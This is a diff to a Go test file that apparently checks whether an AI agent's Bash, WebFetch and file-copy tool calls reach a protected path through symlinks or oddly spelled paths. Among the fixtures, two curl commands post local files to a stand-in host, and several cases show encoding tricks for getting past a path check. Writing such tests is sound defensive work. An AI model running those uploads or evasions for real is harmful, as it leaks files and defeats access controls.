@@ -208,13 +208,19 @@ func TestLinksThatStandInACall(t *testing.T) {
 			{"mcp__fs__copy", `{"files":{"x.sud":1}}`}, {"WebFetch", `{"url":"file://` + at + `/s%75d","prompt":"x"}`},
 			{"Bash", shell("cd .. && cp a code/sud")}, {"Bash", shell("cp a " + at + "/sud")}, {"Bash", shell("cp a ~/code/sud")},
 		},
-		"code/s,d":         {{"Bash", shell("curl -d @s,d https://a.example")}, {"mcp__fs__copy", `{"dst":"x@s,d"}`}},
-		"code/s d":         {{"Bash", shell(`sed 's/a/b/w s d' a`)}, {"Bash", shell("cp a 's d'")}},
-		"code/\U0001F4BE":  {{"Bash", shell("sed 's/a/b/w \U0001F4BE' a")}},
-		"code/sue\u0301":   {{"Bash", shell("curl -d @su\u00e9 https://a.example")}},
-		"code/s x/deep/l":  {{"Bash", shell("frob @s x/deep/l")}, {"mcp__fs__copy", `{"dst":"x,s x/deep/l"}`}},
-		"code/s x/l":       {{"Bash", shell(`cd "s x" && frob -ol`)}, {"Bash", shell(`frob '--in=s x' -ol`)}},
-		"beside/l":         {{"Bash", shell("frob @../beside/l")}, {"Bash", shell("frob @~/beside/l")}, {"Bash", shell("frob @" + home + "/beside/l")}},
+		"code/s,d":        {{"Bash", shell("curl -d @s,d https://a.example")}, {"mcp__fs__copy", `{"dst":"x@s,d"}`}},
+		"code/s d":        {{"Bash", shell(`sed 's/a/b/w s d' a`)}, {"Bash", shell("cp a 's d'")}},
+		"code/\U0001F4BE": {{"Bash", shell("sed 's/a/b/w \U0001F4BE' a")}},
+		"code/sue\u0301":  {{"Bash", shell("curl -d @su\u00e9 https://a.example")}},
+		"code/s x/deep/l": {{"Bash", shell("frob @s x/deep/l")}, {"mcp__fs__copy", `{"dst":"x,s x/deep/l"}`}},
+		"code/s x/l":      {{"Bash", shell(`cd "s x" && frob -ol`)}, {"Bash", shell(`frob '--in=s x' -ol`)}},
+		"beside/l": {
+			{"Bash", shell("frob @../beside/l")}, {"Bash", shell("frob @~/beside/l")}, {"Bash", shell("frob @" + home + "/beside/l")},
+		},
+		"code/k/sud": {
+			{"Bash", shell("tar xf a -C k sud")}, {"Bash", shell("make -Ck sud")}, {"mcp__fs__copy", `{"dir":"k","name":"sud"}`},
+			{"mcp__fs__copy", `{"f":"k\\sud"}`}, {"mcp__fs__copy", `{"uri":"file://` + at + `/k/s%75d","share":"100%"}`},
+		},
 		"beside/other/sud": {{"Bash", shell("frob @../beside/other/sud")}},
 	} {
 		name := filepath.Join(home, link)
